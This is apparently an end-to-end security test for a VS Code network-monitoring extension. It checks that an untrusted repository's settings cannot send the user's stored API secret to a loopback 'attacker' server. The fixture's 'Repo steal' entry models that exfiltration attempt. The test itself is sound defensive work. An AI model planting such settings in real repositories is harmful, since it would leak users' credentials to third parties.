/**
 * Opening a repository one does not know yet, in the packaged extension with workspace trust on
 * (the other walks turn it off): the folder's settings target a loopback "attacker" site, one
 * entry plain and one carrying the user's stored secret in a header. In Restricted Mode the
 * user's own target, whose secret is stored through Store Secret, is checked, and the folder's
 * entries are listed as not checked until the workspace is trusted, and its request file suggests
 * nothing: the attacker gets no request at all. Once trusted (from the Workspace Trust editor, without a reload) the plain entry is
 * checked and the one with the secret is refused, so the attacker never receives the secret.
 * Screenshots go to test-results/ui/workspace-trust/.
 */
import * as assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { RestartableSite } from '../../support/restartableSite';
import { withWorkbench, type WorkbenchDriver } from './workbenchDriver';

const SECRET_NAME = 'apiToken';
const SECRET_VALUE = `walk-secret-${Math.random().toString(36).slice(2)}`;

function headersCarrying(site: RestartableSite, value: string): number {
  return site.receivedHeaders.filter((headers) => JSON.stringify(headers).includes(value)).length;
}

async function rowSays(workbench: WorkbenchDriver, name: string, pattern: RegExp, what: string): Promise<void> {
  const row = workbench.treeRow(name, 'Targets');
  await workbench.waitFor(row, `the row of ${name}`);
  await workbench.waitUntil(what, async () => pattern.test((await row.textContent()) ?? ''), {
    describe: async () => `The row of ${name} says "${(await row.textContent()) ?? ''}".`,
  });
}

test("an untrusted folder checks none of its targets, and once trusted cannot send the user's secret to its own server", async () => {
  const userSite = new RestartableSite();
  const attacker = new RestartableSite();
  await userSite.start();
  await attacker.start();
  try {
    await withWorkbench(
      {
        name: 'workspace-trust',
        workspaceTrust: true,
        userSettings: {
          'networkMonitor.defaults.interval': 2,
          'networkMonitor.defaults.timeout': 2_000,
          'networkMonitor.defaults.retries': 0,
          'networkMonitor.targets': [{ url: userSite.url, name: 'My API', headers: { 'X-Token': `\${secret:${SECRET_NAME}}` } }],
        },
        workspaceSettings: {
          'networkMonitor.targets': [
            { url: `${attacker.url}plain`, name: 'Repo plain' },
            { url: `${attacker.url}steal`, name: 'Repo steal', headers: { 'X-Token': `\${secret:${SECRET_NAME}}` } },
          ],
        },
        // A request file of the folder's: suggested only once the folder is trusted.
        prepareProfile: async ({ workspaceFolder }) =>
          writeFileSync(join(workspaceFolder, 'requests.http'), `GET ${attacker.url}from-a-request-file\n`),
      },
      async (workbench) => {
        const { page } = workbench;
        await workbench.openViewContainer('Network Monitor');

        // The user stores the secret for their own target; Store Secret offers that target's origin.
        const input = await workbench.startCommand('Network Monitor: Store Secret');
        const widget = page.locator('.quick-input-widget');
        await workbench.waitFor(widget.filter({ hasText: 'Store Secret (1/3)' }), 'Store Secret to ask for a name');
        await input.fill(SECRET_NAME);
        await page.keyboard.press('Enter');
        await workbench.waitFor(widget.filter({ hasText: 'Store Secret (2/3)' }), 'Store Secret to ask for the value');
        await input.fill(SECRET_VALUE);
        await page.keyboard.press('Enter');
        await workbench.waitFor(widget.filter({ hasText: 'Store Secret (3/3)' }), 'Store Secret to ask for the origins');
        const userOrigin = new URL(userSite.url).origin;
        await workbench.waitUntil(`the origins to be prefilled with ${userOrigin}`, async () => (await input.inputValue()) === userOrigin, {
          describe: async () => `The origins field holds "${await input.inputValue()}".`,
        });
        await page.keyboard.press('Enter');
        await workbench.waitFor(widget, 'Store Secret to close after the last step', { state: 'hidden' });

        // Restricted Mode: the user's target is checked with its secret, the folder's are held.
        await rowSays(workbench, 'My API', /UP · \d+ ms/, "the user's own target to be UP");
        await workbench.waitUntil(
          "the user's site to receive the secret it was stored for",
          async () => headersCarrying(userSite, SECRET_VALUE) > 0,
        );
        await rowSays(workbench, 'Repo plain', /not checked until you trust this workspace/, "the folder's plain target to wait for trust");
        await rowSays(
          workbench,
          'Repo steal',
          /not checked until you trust this workspace/,
          "the folder's secret target to wait for trust",
        );
        // Three more checks of the user's target: time enough for any check of the folder's to run.
        const userHits = userSite.hits;
        await workbench.waitUntil("three more checks of the user's target", async () => userSite.hits >= userHits + 3);
        assert.equal(attacker.hits, 0, "The untrusted folder's server was sent a request.");
        assert.equal(
          await workbench.treeRows('Targets').filter({ hasText: 'Suggestions' }).count(),
          0,
          'The untrusted folder suggests targets.',
        );
        await workbench.screenshot('restricted-mode');

        // Trust the folder from the Workspace Trust editor, as a user does; no reload follows.
        await workbench.runCommand('Workspaces: Manage Workspace Trust');
        const trustButton = page
          .locator('.workspace-trust-editor .monaco-button')
          .filter({ hasText: /^Trust$/ })
          .first();
        await workbench.waitFor(trustButton, "the Workspace Trust editor's Trust button");
        await workbench.screenshot('trust-editor');
        await trustButton.click();
        // The Workspace Trust editor opens as a modal editor over the workbench: close it.
        await workbench.waitFor(
          page.locator('.workspace-trust-editor .monaco-button').filter({ hasText: /^Trust$/ }),
          'the Trust button to go once the folder is trusted',
          { state: 'hidden' },
        );
        const modal = page.locator('.monaco-modal-editor-block');
        await modal.locator('[aria-label^="Close"]').first().click();
        await workbench.waitFor(modal, 'the Workspace Trust editor to close', { state: 'hidden' });

        await rowSays(workbench, 'Repo plain', /UP · \d+ ms/, "the folder's plain target to be checked once trusted");
        await workbench.waitFor(
          workbench.treeRow(`GET ${attacker.url}from-a-request-file`, 'Targets'),
          "the folder's request file to be suggested once trusted",
        );
        await rowSays(workbench, 'Repo steal', /refused/, "the folder's target with the secret to be refused");
        const row = workbench.treeRow('Repo steal', 'Targets');
        await workbench.hoverUntil(
          row,
          page.locator('.monaco-hover, .workbench-hover').filter({ hasText: userOrigin }),
          "the refused row's tooltip to name the origin the secret is bound to",
        );
        await workbench.screenshot('trusted-secret-refused');
        const attackerHits = attacker.hits;
        await workbench.waitUntil("two more checks of the folder's plain target", async () => attacker.hits >= attackerHits + 2);
        assert.equal(headersCarrying(attacker, SECRET_VALUE), 0, "The folder's server received the user's secret.");
        assert.ok(
          attacker.receivedHeaders.every((headers) => headers['x-token'] === undefined),
          "The folder's server received the X-Token header.",
        );
        await rowSays(workbench, 'My API', /UP · \d+ ms/, "the user's own target to stay UP");
      },
    );
  } finally {
    await userSite.stop();
    await attacker.stop();
  }
});
